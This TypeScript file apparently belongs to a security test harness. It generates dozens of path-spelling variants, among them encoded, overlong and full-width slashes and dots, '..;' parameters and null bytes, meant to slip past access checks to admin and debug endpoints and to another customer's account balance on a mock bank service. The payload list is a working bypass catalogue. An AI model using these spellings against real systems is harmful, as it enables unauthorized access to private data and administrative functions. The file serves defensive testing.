import type { Attack, Attempt } from "../attack.ts";
import { bearer } from "../exchange.ts";

/** Ways to write `/<before>/<after>` so that a careless reader still finds it; `door` is a path that is open. */
function spellDirect(before: string, after: string, door: string): readonly (readonly [string, string])[] {
  const first = before.charCodeAt(0).toString(16);
  const rest = before.slice(1);
  return [
    ["as it is", `/${before}/${after}`],
    ["capital letters", `/${before.toUpperCase()}/${after}`],
    ["doubled slashes", `//${before}//${after}`],
    ["dot segments", `/./${before}/./${after}`],
    ["out of an open path", `${door}/../${before}/${after}`],
    ["an encoded letter", `/%${first}${rest}/${after}`],
    ["a twice encoded letter", `/%25${first}${rest}/${after}`],
    ["an encoded letter, the other way", `/%u00${first}${rest}/${after}`],
    ["encoded dots", `${door}/%2e%2e/${before}/${after}`],
    ["an encoded slash", `/${before}%2f${after}`],
    ["a twice encoded slash", `/${before}%252f${after}`],
    ["a thrice encoded slash", `/${before}%25252f${after}`],
    ["twice encoded dots", `${door}/%252e%252e/${before}/${after}`],
    ["a backslash", `/${before}\\${after}`],
    ["an encoded backslash", `${door}/..%5c${before}/${after}`],
    ["a path parameter", `/${before};v=1/${after}`],
    ["an empty segment with a parameter", `/;x=1/${before}/${after}`],
    ["dots with a parameter", `${door}/..;/${before}/${after}`],
    ["encoded dots with a parameter", `${door}/%2e%2e;/${before}/${after}`],
    ["an overlong slash", `/${before}%c0%af${after}`],
    ["overlong dots", `${door}/%c0%ae%c0%ae/${before}/${after}`],
    ["a full-width slash", `/${before}%ef%bc%8f${after}`],
    ["full-width dots", `${door}/%ef%bc%8e%ef%bc%8e/${before}/${after}`],
    ["a dot at the end", `/${before}./${after}.`],
    ["a blank at the end", `/${before}%20/${after}%20`],
    ["a tab at the end", `/${before}%09/${after}`],
    ["a zero byte", `/${before}/${after}%00.png`],
    ["a slash and a query at the end", `/${before}/${after}/?next=${door}`],
    ["with scheme and host", `http://bank.example/${before}/${after}`],
    ["a fragment", `/${before}/${after}#${door}`],
  ];
}

/** Ways to leave one's own account for another: the first part of the path is the attacker's by right. */
function spellWalk(own: string, other: string): readonly (readonly [string, string])[] {
  const root = "/v1/accounts";
  return [
    ["dots", `${root}/${own}/../${other}/balance`],
    ["dots, from deeper", `${root}/${own}/balance/../../${other}/balance`],
    ["encoded dots", `${root}/${own}/%2e%2e/${other}/balance`],
    ["encoded slashes", `${root}/${own}%2f..%2f${other}/balance`],
    ["one encoded slash", `${root}/${own}/..%2f${other}/balance`],
    ["twice encoded slashes", `${root}/${own}%252f..%252f${other}/balance`],
    ["twice encoded dots", `${root}/${own}/%252e%252e/${other}/balance`],
    ["backslashes", `${root}/${own}\\..\\${other}\\balance`],
    ["an encoded backslash", `${root}/${own}/..%5c${other}/balance`],
    ["dots with a parameter", `${root}/${own}/..;/${other}/balance`],
    ["encoded dots with a parameter", `${root}/${own}/%2e%2e;/${other}/balance`],
    ["a parameter before dots", `${root}/${own};/../${other}/balance`],
    ["overlong dots", `${root}/${own}/%c0%ae%c0%ae/${other}/balance`],
    ["an overlong slash", `${root}/${own}/..%c0%af${other}/balance`],
    ["a full-width slash", `${root}/${own}/..%ef%bc%8f${other}/balance`],
    ["full-width dots", `${root}/${own}/%ef%bc%8e%ef%bc%8e/${other}/balance`],
    ["doubled slashes and dots", `${root}/${own}//../${other}/balance`],
    ["a dot, then dots", `${root}/${own}/./../${other}/balance`],
  ];
}

/** Paths that a strict reader refuses or sees through, and that a careless application resolves to somewhere else. */
export const pathSpellings: Attack = {
  name: "path-spellings",
  title: "paths spelled in many ways",
  attempts({ people, attacker, attackerToken, victim }) {
    const source = people.addressOf(attacker);
    const headers = [bearer(attackerToken)];
    const own = `/v1/accounts/${attacker.account}`;
    const get = (service: "accounts" | "admin", what: string, path: string): Attempt => ({
      what,
      exchange: { service, method: "GET", path, headers, source },
      // Reading one's own account in an odd spelling is no harm.
      harmless: (entry) => entry.served === `GET ${own}` || entry.served.startsWith(`GET ${own}/`),
    });
    return [
      ...spellDirect("admin", "customers", "/healthz").map(([what, path]) => get("admin", `admin: ${what}`, path)),
      ...spellDirect("debug", "env", "/healthz").map(([what, path]) => get("accounts", `debug page: ${what}`, path)),
      ...spellWalk(attacker.account, victim.account).map(([what, path]) => get("accounts", `walk: ${what}`, path)),
    ];
  },
};
